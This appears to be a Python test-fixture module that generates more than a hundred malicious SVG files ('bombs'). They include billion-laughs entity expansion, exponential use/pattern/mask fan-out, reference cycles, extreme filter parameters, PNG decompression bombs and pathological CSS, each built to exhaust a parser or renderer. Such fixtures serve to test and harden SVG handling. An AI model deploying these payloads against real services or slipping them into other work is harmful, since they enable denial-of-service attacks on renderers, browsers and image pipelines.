"""Drawings made to exhaust whoever reads or draws them."""

from __future__ import annotations

import base64
import struct
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["bombs"]

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1000 1000" width="1000" height="1000">'
DOT = '<circle r="9"/>'
STOP = '<stop offset=".5"/>'
BLUR = '<feGaussianBlur stdDeviation="40"/>'
FULL = 'width="1000" height="1000"'


def _doubling(element: str, levels: int, fan: int, attribute: str = "href") -> str:
    lines = [f'<g id="l0"><rect {FULL}/></g>']
    lines += [
        f'<g id="l{level}">' + f'<{element} {attribute}="#l{level - 1}"/>' * fan + "</g>"
        for level in range(1, levels + 1)
    ]
    return "".join(lines)


def _chain(kind: str, attribute: str, levels: int, fan: int) -> str:
    """Servers of one kind whose content uses the one before, fan times."""
    parts = [f'<{kind} id="c0" {FULL}><rect {FULL}/></{kind}>']
    for level in range(1, levels):
        inner = f'<rect {FULL} {attribute}="url(#c{level - 1})"/>' * fan
        parts.append(f'<{kind} id="c{level}" patternUnits="userSpaceOnUse" {FULL}>{inner}</{kind}>')
    return "<defs>" + "".join(parts) + f'</defs><rect {FULL} {attribute}="url(#c{levels - 1})"/>'


def _png(width: int, height: int) -> str:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packed = zlib.compress(b"\0" * min(width // 8 * height, 20_000_000), 9)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", packed)
        + chunk(b"IEND", b"")
    )
    return base64.b64encode(data).decode()


def _filtered(primitives: str, times: int = 1, **region: str) -> str:
    where = " ".join(f'{key}="{value}"' for key, value in region.items())
    return f'<filter id="f" {where}>{primitives}</filter>' + f'<rect {FULL} filter="url(#f)"/>' * times


def _plain() -> Iterator[tuple[str, str]]:  # noqa: PLR0915  one statement per attack
    yield (
        "entities-laughs",
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
        + f"]>{OPEN}<text>&j;</text></svg>",
    )
    yield (
        "entities-quadratic",
        f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>{OPEN}<text>{"&a;" * 20_000}</text></svg>',
    )
    yield "entities-attribute", f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>{OPEN}<g id="{"&a;" * 20_000}"/></svg>'
    yield (
        "entities-many",
        "<!DOCTYPE svg [" + "".join(f'<!ENTITY e{index} "x">' for index in range(50_000)) + f"]>{OPEN}</svg>",
    )
    yield (
        "attlist-defaults",
        "<!DOCTYPE svg [<!ATTLIST g "
        + "".join(f'a{index} CDATA "{"x" * 900}" ' for index in range(240))
        + f"]>{OPEN}{'<g/>' * 100_000}</svg>",
    )
    yield "use-doubling", OPEN + _doubling("use", 30, 2) + "</svg>"
    yield "use-tenfold", OPEN + _doubling("use", 12, 10) + '<use href="#l12"/></svg>'
    yield "use-xlink", OPEN + _doubling("use", 12, 10, "xlink:href") + '<use xlink:href="#l12"/></svg>'
    yield "use-self", f'{OPEN}<g id="a"><use href="#a"/><use href="#a"/></g><use href="#a"/></svg>'
    yield (
        "use-mutual",
        f'{OPEN}<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/><use href="#a"/></g></svg>',
    )
    yield (
        "use-long-chain",
        OPEN
        + '<rect id="u0" width="9" height="9"/>'
        + "".join(f'<use id="u{index}" href="#u{index - 1}"/>' for index in range(1, 20_000))
        + "</svg>",
    )
    yield "use-wide", OPEN + f'<g id="a">{"<rect/>" * 1000}</g>' + '<use href="#a"/>' * 5000 + "</svg>"
    yield (
        "use-symbol",
        OPEN
        + '<symbol id="l0"><rect width="9" height="9"/></symbol>'
        + "".join(f'<symbol id="l{index}">{f"""<use href="#l{index - 1}"/>""" * 8}</symbol>' for index in range(1, 12))
        + '<use href="#l11"/></svg>',
    )
    for kind, attribute in (("pattern", "fill"), ("mask", "mask"), ("clipPath", "clip-path")):
        yield f"{kind}-fan", OPEN + _chain(kind, attribute, 12, 8) + "</svg>"
        yield f"{kind}-chain", OPEN + _chain(kind, attribute, 90, 1) + "</svg>"
        yield (
            f"{kind}-self",
            f'{OPEN}<{kind} id="s" {FULL}><rect {FULL} {attribute}="url(#s)"/></{kind}><rect {FULL} {attribute}="url(#s)"/></svg>',
        )
        yield (
            f"{kind}-style",
            f'{OPEN}<style>.a{{{attribute}:url(#s)}}</style><{kind} id="s" {FULL}><rect class="a" {FULL}/><rect class="a" {FULL}/></{kind}><rect class="a" {FULL}/></svg>',
        )
        yield (
            f"{kind}-style-fan",
            OPEN
            + "<style>"
            + "".join(f".c{index}{{{attribute}:url(#c{index})}}" for index in range(14))
            + "</style>"
            + f'<{kind} id="c0" {FULL}><rect {FULL}/></{kind}>'
            + "".join(
                f'<{kind} id="c{index}" {FULL}>{f"""<rect class="c{index - 1}" {FULL}/>""" * 6}</{kind}>'
                for index in range(1, 14)
            )
            + f'<rect class="c13" {FULL}/></svg>',
        )
        yield (
            f"{kind}-many",
            OPEN
            + f'<{kind} id="s" {FULL}>{DOT * 50}</{kind}>'
            + f'<rect {FULL} {attribute}="url(#s)"/>' * 3000
            + "</svg>",
        )
    yield (
        "pattern-tiny",
        f'{OPEN}<pattern id="p" width="0.0001" height="0.0001" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect {FULL} fill="url(#p)"/></svg>',
    )
    yield (
        "pattern-tiny-many",
        f'{OPEN}<pattern id="p" width="0.01" height="0.01" patternUnits="userSpaceOnUse">{DOT * 2000}</pattern>'
        + f'<rect {FULL} fill="url(#p)"/>' * 300
        + "</svg>",
    )
    yield (
        "pattern-huge",
        f'{OPEN}<pattern id="p" width="1e9" height="1e9" patternUnits="userSpaceOnUse"><rect width="1e9" height="1e9"/></pattern><rect {FULL} fill="url(#p)"/></svg>',
    )
    yield (
        "pattern-scale",
        f'{OPEN}<pattern id="p" width="1" height="1" patternTransform="scale(1e-6)" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect {FULL} fill="url(#p)"/></svg>',
    )
    big = "M0 0" + "".join(f"L{index % 1000} {index * 7 % 1000}" for index in range(50_000))
    yield (
        "marker-vertices",
        f'{OPEN}<marker id="m" markerWidth="9" markerHeight="9">{DOT * 1000}</marker><path d="{big}" marker-mid="url(#m)"/></svg>',
    )
    yield (
        "marker-style",
        f'{OPEN}<style>path{{marker:url(#m)}}</style><marker id="m" markerWidth="9" markerHeight="9">{DOT * 1000}</marker><path d="{big}"/></svg>',
    )
    yield (
        "marker-nested",
        f'{OPEN}<marker id="m"><path d="M0 0h1v1h1v1" marker-mid="url(#n)"/></marker><marker id="n"><path d="M0 0h1v1h1v1" marker-mid="url(#m)"/></marker><path d="{big[:9000]}" marker-mid="url(#m)"/></svg>',
    )
    yield (
        "marker-inherited",
        f'{OPEN}<marker id="m">{DOT * 100}</marker><g marker-mid="url(#m)">'
        + f'<path d="{big[:30_000]}"/>' * 50
        + "</g></svg>",
    )
    yield "blur-huge", OPEN + _filtered('<feGaussianBlur stdDeviation="1e9"/>') + "</svg>"
    yield "blur-many", OPEN + _filtered('<feGaussianBlur stdDeviation="50"/>' * 100, 100) + "</svg>"
    yield (
        "blur-region",
        OPEN
        + _filtered('<feGaussianBlur stdDeviation="900"/>', 1, x="-1e6", y="-1e6", width="1e7", height="1e7")
        + "</svg>",
    )
    yield (
        "blur-region-user",
        OPEN
        + _filtered(
            '<feGaussianBlur stdDeviation="900"/>',
            20,
            x="-1e9",
            y="-1e9",
            width="1e10",
            height="1e10",
            filterUnits="userSpaceOnUse",
        )
        + "</svg>",
    )
    yield "blur-css", f"{OPEN}<style>rect{{filter:blur(1e6px) blur(1e6px)}}</style><rect {FULL}/></svg>"
    yield (
        "blur-css-many",
        f"{OPEN}<style>rect{{filter:{'blur(90px) ' * 200}}}</style>" + f"<rect {FULL}/>" * 500 + "</svg>",
    )
    yield "blur-css-attribute", OPEN + f'<rect {FULL} filter="{"blur(90px) " * 50}"/>' * 500 + "</svg>"
    yield "blur-css-nested", OPEN + '<g filter="blur(9px)">' * 150 + f"<rect {FULL}/>" + "</g>" * 150 + "</svg>"
    yield "morphology", OPEN + _filtered('<feMorphology operator="dilate" radius="1e9"/>') + "</svg>"
    yield "morphology-many", OPEN + _filtered('<feMorphology operator="dilate" radius="199"/>' * 50, 20) + "</svg>"
    yield "turbulence", OPEN + _filtered('<feTurbulence baseFrequency="0.9" numOctaves="1000000000"/>') + "</svg>"
    yield "turbulence-many", OPEN + _filtered('<feTurbulence baseFrequency="0.9" numOctaves="8"/>' * 60, 20) + "</svg>"
    yield "convolve", OPEN + _filtered(f'<feConvolveMatrix order="100" kernelMatrix="{"1 " * 10_000}"/>') + "</svg>"
    yield (
        "convolve-many",
        OPEN + _filtered(f'<feConvolveMatrix order="30" kernelMatrix="{"1 " * 900}"/>' * 30, 10) + "</svg>",
    )
    yield (
        "lighting-many",
        OPEN
        + _filtered(
            '<feSpecularLighting surfaceScale="9" specularExponent="20"><fePointLight x="9" y="9" z="9"/></feSpecularLighting>'
            * 50,
            40,
        )
        + "</svg>",
    )
    yield (
        "displacement-many",
        OPEN + _filtered('<feDisplacementMap in2="SourceGraphic" scale="1e9"/>' * 90, 40) + "</svg>",
    )
    yield (
        "tile-many",
        OPEN + _filtered('<feFlood x="0" y="0" width="0.001" height="0.001"/><feTile/>' * 40, 40) + "</svg>",
    )
    yield (
        "filter-nested",
        OPEN
        + '<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>'
        + '<g filter="url(#f)">' * 150
        + f"<rect {FULL}/>"
        + "</g>" * 150
        + "</svg>",
    )
    yield (
        "filter-style",
        f'{OPEN}<style>*{{filter:url(#f)}}</style><filter id="f">{BLUR * 60}</filter>'
        + f"<rect {FULL}/>" * 2000
        + "</svg>",
    )
    yield (
        "feimage-recursion",
        f'{OPEN}<filter id="f"><feImage href="#r"/></filter><rect id="r" {FULL} filter="url(#f)"/></svg>',
    )
    yield (
        "feimage-fan",
        OPEN
        + "".join(
            f'<filter id="f{index}">{f"""<feImage href="#r{index - 1}"/>""" * 6}</filter><rect id="r{index}" {FULL} filter="url(#f{index})"/>'
            for index in range(1, 14)
        )
        + "</svg>",
    )
    yield (
        "drop-shadow-css",
        f"{OPEN}<style>rect{{filter:{'drop-shadow(0 0 90px red) ' * 90}}}</style>" + f"<rect {FULL}/>" * 200 + "</svg>",
    )
    yield "opacity-nested", OPEN + '<g opacity="0.9">' * 190 + f"<rect {FULL}/>" + "</g>" * 190 + "</svg>"
    yield "opacity-many", OPEN + f'<g opacity="0.5"><rect {FULL}/><rect {FULL}/></g>' * 20_000 + "</svg>"
    yield (
        "blend-nested",
        OPEN
        + '<g style="mix-blend-mode:multiply;isolation:isolate">' * 190
        + f"<rect {FULL}/>" * 200
        + "</g>" * 190
        + "</svg>",
    )
    yield "elements", OPEN + "<rect/>" * 1_000_000 + "</svg>"
    yield "elements-allowed", OPEN + '<rect width="9" height="9"/>' * 149_000 + "</svg>"
    yield "elements-large", OPEN + '<circle r="900" fill-opacity=".01"/>' * 149_000 + "</svg>"
    yield "unknown-elements", OPEN + "<x:y xmlns:x='z'/>" * 400_000 + "</svg>"
    yield "texts", OPEN + '<text y="9">abc</text>' * 140_000 + "</svg>"
    yield "text-long", OPEN + f"<text>{'a ' * 1_000_000}</text></svg>"
    yield "text-allowed", OPEN + f"<text>{'ab ' * 60_000}</text></svg>"
    yield (
        "text-giant",
        OPEN
        + f'<text font-size="1e9">{"W" * 1000}</text><text font-size="999999" stroke="red" stroke-dasharray="1">W</text></svg>',
    )
    yield "text-positions", OPEN + f'<text x="{"1 " * 200_000}">{"a" * 100_000}</text></svg>'
    yield (
        "textpath-many",
        f'{OPEN}<path id="p" d="{big}"/>' + '<text><textPath href="#p">abcdefghij</textPath></text>' * 2000 + "</svg>",
    )
    yield "depth", OPEN + "<g>" * 100_000 + "</g>" * 100_000 + "</svg>"
    yield "depth-unclosed", OPEN + "<g>" * 200_000
    yield "depth-foreign", OPEN + "<x>" * 200_000 + "</x>" * 200_000 + "</svg>"
    yield "depth-svg", OPEN + '<svg viewBox="0 0 9 9">' * 180 + f"<rect {FULL}/>" + "</svg>" * 180 + "</svg>"
    yield "attributes", OPEN + "<g " + " ".join(f'a{index}="x"' for index in range(200_000)) + "/></svg>"
    yield (
        "attributes-namespaces",
        OPEN + "<g " + " ".join(f'xmlns:a{index}="x{index}"' for index in range(50_000)) + "/></svg>",
    )
    yield "attribute-long", OPEN + f'<g id="{"a" * 4_000_000}" class="{"b " * 2_000_000}"/></svg>'
    yield "size-giant", f'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><rect {FULL}/></svg>'
    yield "size-giant-mm", f'<svg xmlns="http://www.w3.org/2000/svg" width="99999999mm" height="1"><rect {FULL}/></svg>'
    yield (
        "size-style",
        f'<svg xmlns="http://www.w3.org/2000/svg" style="width:99999999px;height:99999999px" viewBox="0 0 9 9"><rect {FULL}/></svg>',
    )
    yield (
        "size-thin",
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1e9"><rect width="1" height="1e9"/></svg>',
    )
    yield (
        "size-thin-wide",
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 0.001"><rect width="1e9" height="1"/></svg>',
    )
    yield (
        "viewbox-giant",
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="-1e38 -1e38 2e38 2e38"><circle r="1e38" stroke="red" stroke-dasharray="1"/></svg>',
    )
    yield (
        "viewbox-tiny",
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e-30 1e-30" width="100" height="100"><circle r="1e30"/></svg>',
    )
    yield (
        "numbers-giant",
        f'{OPEN}<path d="M1e300 1e300L-1e300 1e308 9e999 9e999" stroke="red" stroke-width="1e300"/><rect x="-1e38" width="2e38" height="1e38"/></svg>',
    )
    yield "dash-tiny", f'{OPEN}<path d="M0 0H1000V1000H0z" stroke="red" fill="none" stroke-dasharray="0.00001"/></svg>'
    yield (
        "dash-small-many",
        OPEN + '<path d="M0 0H1000V1000H0z" stroke="red" fill="none" stroke-dasharray="0.02"/>' * 500 + "</svg>",
    )
    yield "dash-long", f'{OPEN}<path d="M0 0H1e7V1e7H0z" stroke="red" fill="none" stroke-dasharray="1"/></svg>'
    yield (
        "dash-long-many",
        OPEN
        + '<path d="M0 0H1e6V1e6H0z" stroke="red" fill="none" stroke-dasharray="1" stroke-linecap="round"/>' * 200
        + "</svg>",
    )
    yield "dash-circle", OPEN + '<circle r="1e8" stroke="red" fill="none" stroke-dasharray="1"/>' * 50 + "</svg>"
    yield (
        "dash-style",
        f"{OPEN}<style>path{{stroke:red;stroke-dasharray:.05}}</style>" + f'<path d="{big}"/>' * 5 + "</svg>",
    )
    yield (
        "dash-transform",
        f'{OPEN}<g transform="scale(1e-5)">'
        + '<path d="M0 0H1e8" stroke="red" stroke-width="1e6" stroke-dasharray="9"/>' * 50
        + "</g></svg>",
    )
    yield "path-long", f'{OPEN}<path stroke="red" d="{big * 8}"/></svg>'
    yield "path-arcs", OPEN + '<path stroke="red" d="M0 0' + "a1e9 1e9 0 1 1 9 9" * 50_000 + '"/></svg>'
    yield (
        "stroke-round",
        f'{OPEN}<path fill="none" stroke="red" stroke-width="500" stroke-linejoin="round" stroke-opacity=".1" d="{big}"/></svg>',
    )
    yield (
        "animations",
        OPEN
        + f'<rect {FULL}><animate attributeName="x" values="0;9;0" dur="0.001s" repeatCount="indefinite"/></rect>'
        * 30_000
        + "</svg>",
    )
    yield (
        "animation-values",
        OPEN + f'<rect {FULL}><animate attributeName="x" values="{"1;2;" * 500_000}" dur="1s"/></rect></svg>',
    )
    yield (
        "animation-chain",
        OPEN
        + "".join(
            f'<animate id="a{index}" attributeName="x" to="1" dur="0.001s" begin="a{(index + 1) % 500}.end;a{(index + 7) % 500}.begin"/>'
            for index in range(500)
        )
        + "</svg>",
    )
    yield (
        "animation-stddev",
        OPEN
        + '<filter id="f"><feGaussianBlur><animate attributeName="stdDeviation" values="0;1e9" dur="1s" repeatCount="indefinite"/></feGaussianBlur></filter>'
        + f'<rect {FULL} filter="url(#f)"/></svg>',
    )
    yield (
        "css-selectors",
        f"{OPEN}<style>{'g ' * 1000}rect{{fill:red}}</style>"
        + "<g>" * 190
        + "<rect/>" * 2000
        + "</g>" * 190
        + "</svg>",
    )
    yield (
        "css-universal",
        f"{OPEN}<style>{'* * * * * * * * x{fill:red}' * 5000}</style>"
        + "<g>" * 150
        + "<rect/>" * 10_000
        + "</g>" * 150
        + "</svg>",
    )
    yield "css-not", f"{OPEN}<style>{':not(' * 5000}a{')' * 5000}{{fill:red}}</style>{'<rect/>' * 1000}</svg>"
    yield "css-nesting", f"{OPEN}<style>{'@media all{' * 20_000}</style></svg>"
    yield "css-brackets", f"{OPEN}<style>a{{fill:{'(' * 100_000}</style><g style='fill:{'[' * 100_000}'/></svg>"
    yield "css-escapes", f"{OPEN}<style>{'a' + chr(92) + '66 {fill:red}' * 30_000}</style></svg>"
    yield "css-comments", f"{OPEN}<style>{'/*' * 200_000}</style><style>{'/**/' * 100_000}</style></svg>"
    yield (
        "css-rules",
        f"{OPEN}<style>{'.a{fill:red}' * 40_000}</style>{'<rect class=' + chr(34) + 'a' + chr(34) + '/>'}</svg>",
    )
    yield (
        "css-has",
        f"{OPEN}<style>g:has(rect:has(g)) rect:nth-last-child(2n+1 of .a){{fill:red}}</style>{'<g><rect/></g>' * 20_000}</svg>",
    )
    yield "css-quotes", f"{OPEN}<style>{'a{font-family:' + chr(39) + 'x' + chr(39) * 3 + '}' * 20_000}</style></svg>"
    variables = "".join(f"--a{index}:" + f"var(--a{index - 1}) " * 8 + ";" for index in range(1, 12))
    yield (
        "css-var",
        f"{OPEN}<style>svg{{--a0:1px 1px 1px;{variables}stroke-dasharray:var(--a11)}}</style><rect {FULL}/></svg>",
    )
    yield "css-calc", f'{OPEN}<rect style="width:{"calc(" * 11}1px{")" * 11}" height="9"/></svg>'
    yield (
        "gradient-stops",
        f'{OPEN}<linearGradient id="g">{STOP * 50_000}</linearGradient>'
        + f'<rect {FULL} fill="url(#g)"/>' * 200
        + "</svg>",
    )
    yield (
        "gradient-chain",
        OPEN
        + "".join(f'<linearGradient id="g{index}" href="#g{index - 1}"/>' for index in range(20_000))
        + f'<rect {FULL} fill="url(#g19999)"/></svg>',
    )
    yield (
        "gradient-cycle",
        f'{OPEN}<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect {FULL} fill="url(#a)"/></svg>',
    )
    for side in (30_000, 60_000):
        yield (
            f"image-{side}",
            f'{OPEN}<image width="9" height="9" href="data:image/png;base64,{_png(side, side)}"/></svg>',
        )
    yield (
        "image-many",
        OPEN + f'<image width="9" height="9" href="data:image/png;base64,{_png(5000, 5000)}"/>' * 40 + "</svg>",
    )
    yield "switch-wide", OPEN + "<switch>" + "<g systemLanguage='xx'/>" * 100_000 + "</switch></svg>"
    yield "ids-same", OPEN + '<g id="a"/>' * 100_000 + '<use href="#a"/>' * 40_000 + "</svg>"
    yield (
        "nested-svg-sizes",
        OPEN
        + '<svg width="1e9" height="1e9" viewBox="0 0 1e-9 1e-9">' * 9
        + f"<rect {FULL}/>"
        + "</svg>" * 9
        + "</svg>",
    )
    yield "transform-list", OPEN + f'<g transform="{"scale(1.5)" * 100_000}"><rect {FULL}/></g></svg>'
    yield (
        "transform-huge",
        OPEN + '<g transform="scale(1e30)"><path d="M0 0h1v1z" stroke="red" stroke-dasharray="1e-20"/></g></svg>',
    )


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of every bomb."""
    for name, text in _plain():
        yield name, text.encode()
